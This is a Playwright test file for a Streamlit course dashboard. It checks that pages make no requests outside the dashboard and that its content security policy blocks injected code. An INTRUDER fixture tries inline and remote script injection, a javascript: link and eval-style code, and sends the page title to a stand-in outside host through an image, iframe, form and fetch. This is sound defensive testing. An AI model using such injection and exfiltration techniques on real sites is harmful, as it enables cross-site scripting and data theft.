"""Every page in a real browser, which is told to refuse what the dashboard does not need: nothing is missed, and a
script that somebody has got into a page does nothing.
"""

import re
import socket
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, ConsoleMessage, Page, Request, Response

from tests import browser as browsers
from tests.browser import expect, settle, settled, sign_in
from tests.demo_process import Demo
from tests.screens import COURSE_VIEWS, PAGES
from tracker.demo import ADMIN, TEACHER, Account

pytestmark = browsers.pytestmark

# Streamlit looks for itself below the page's own address first.
LOOKED_FOR = re.compile(r"/\w+/_stcore/(health|host-config)")
TELLS_OF_REFUSALS = """
document.addEventListener("securitypolicyviolation", event =>
  console.error("refused by the content policy:", event.violatedDirective, event.blockedURI, event.sourceFile))
"""


@pytest.fixture(scope="module")
def outside() -> Iterator[socket.socket]:
    """What the demo takes for its way to the rest of the internet."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        yield listening


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory, outside: socket.socket) -> Iterator[Demo]:
    proxy = f"http://127.0.0.1:{outside.getsockname()[1]}"
    proxies = {f"{scheme}_proxy": proxy for scheme in ("http", "https", "all")}
    running = Demo(tmp_path_factory.mktemp("demo"), **proxies, no_proxy="127.0.0.1")
    running.start()
    yield running
    assert running.interrupt() == 0


class Watched:
    """What a browser complains of, and asks of others than the dashboard."""

    def __init__(self, page: Page, demo: Demo) -> None:
        self.faults: list[str] = []
        self._home = demo.url
        page.add_init_script(TELLS_OF_REFUSALS)
        page.on("console", self._console)
        page.on("pageerror", lambda error: self.faults.append(f"error: {error}"))
        page.on("request", self._request)
        page.on("websocket", lambda opened: self._address(opened.url.replace("ws", "http", 1)))
        page.on("response", self._response)

    def _console(self, message: ConsoleMessage) -> None:
        failed = message.location["url"].removeprefix(self._home)
        if message.type == "error" and not LOOKED_FOR.fullmatch(failed):
            self.faults.append(message.text)

    def _request(self, request: Request) -> None:
        self._address(request.url)

    def _address(self, url: str) -> None:
        if not url.startswith((f"{self._home}/", f"blob:{self._home}/", "data:")):
            self.faults.append(f"asked elsewhere: {url}")

    def _response(self, response: Response) -> None:
        path = response.url.removeprefix(self._home)
        if response.status >= 400 and not LOOKED_FOR.fullmatch(path):
            self.faults.append(f"{response.status}: {path}")


def said_to(outside: socket.socket) -> list[bytes]:
    """What was asked there. A browser may open a connection ahead of a request that it then refuses."""
    said: list[bytes] = []
    with suppress(BlockingIOError):
        while True:
            with outside.accept()[0] as connection, suppress(BlockingIOError):
                connection.setblocking(False)
                said += filter(None, [connection.recv(1000)])
    return said


def look_at(page: Page) -> None:
    """Opens whatever is folded up on the page."""
    for folded in settled(page).get_by_test_id("stExpander").locator("summary").all():
        settled(folded).click()
    settle(page)


def class_in(page: Page, demo: Demo, state: str) -> None:
    """Goes to the first class in the list that is in this state."""
    page.goto(f"{demo.url}/classes?status={state}")
    settled(page.get_by_test_id("stMain").get_by_test_id("stPageLink-NavLink").first).click()
    expect(page).to_have_url(re.compile(r"/class\?id="))


@pytest.mark.parametrize("account", [ADMIN, TEACHER], ids=lambda account: account.role)
def test_every_page_works_and_nobody_outside_is_asked_for_anything(
    context: BrowserContext,
    demo: Demo,
    outside: socket.socket,
    account: Account,
) -> None:
    page = context.new_page()
    watched = Watched(page, demo)
    sign_in(page, demo, account)
    for path in ("" if name == "dashboard.py" else Path(name).stem for name in PAGES):
        page.goto(f"{demo.url}/{path}")
        look_at(page)
    class_in(page, demo, "Ended")
    look_at(page)
    expect(page.locator(".js-plotly-plot").first).to_be_visible()
    expect(page.get_by_role("table", name="Students").first).to_be_visible()
    for button in page.get_by_test_id("stDownloadButton").get_by_role("button").all():
        with page.expect_download() as download:
            settled(button).click()
        assert Path(download.value.path()).stat().st_size > 100
    page.goto(f"{demo.url}/courses")
    settled(page.locator("a[href*='course?id=']").first).click()
    expect(page).to_have_url(re.compile(r"/course\?id="))
    course = page.url
    for view in COURSE_VIEWS:
        page.goto(f"{course}&view={view}")
        look_at(page)
    page.goto(course)
    settled(page.locator("a[href*='student?id=']").first).click()
    expect(page).to_have_url(re.compile(r"/student\?id="))
    look_at(page)
    class_in(page, demo, "Upcoming")
    for button in ("Change", "Cancel class"):
        settled(page.get_by_role("button", name=button, exact=True)).click()
        expect(page.get_by_role("dialog")).to_be_visible()
        page.keyboard.press("Escape")
        expect(page.get_by_role("dialog")).to_have_count(0)
    settled(page.get_by_role("button", name="Sign out", exact=True)).click()
    expect(page.get_by_label("E-mail")).to_be_visible()
    assert watched.faults == []
    assert said_to(outside) == []


INTRUDER = """async ([outside, refused]) => {
  const seen = new Set()
  const all = new Promise(done => document.addEventListener("securitypolicyviolation", event => {
    seen.add(event.effectiveDirective)
    if (refused.every(directive => seen.has(directive))) done()
  }))
  const put = (name, set) => document.body.appendChild(Object.assign(document.createElement(name), set))
  put("script", {textContent: "window.ran = 'inline'"})
  put("script", {src: "data:text/javascript,window.ran='data'"})
  put("script", {src: `${outside}/x.js`})
  put("a", {href: "javascript:window.ran='link'", target: "_self"}).click()
  try { setTimeout("window.ran = 'evaluated'") } catch {}
  put("img", {src: `${outside}/?${document.title}`})
  put("iframe", {src: outside})
  put("form", {action: outside, method: "post"}).submit()
  fetch(outside).catch(() => {})
  await all
}"""


def test_a_script_that_somebody_has_got_into_a_page_neither_runs_nor_tells_anybody(
    context: BrowserContext,
    demo: Demo,
    outside: socket.socket,
) -> None:
    page = sign_in(context.new_page(), demo, TEACHER)
    settle(page)
    refused = ["script-src-elem", "script-src", "img-src", "frame-src", "connect-src", "form-action"]
    page.evaluate(INTRUDER, [f"http://127.0.0.1:{outside.getsockname()[1]}", refused])
    assert page.evaluate("window.ran") is None
    assert said_to(outside) == []
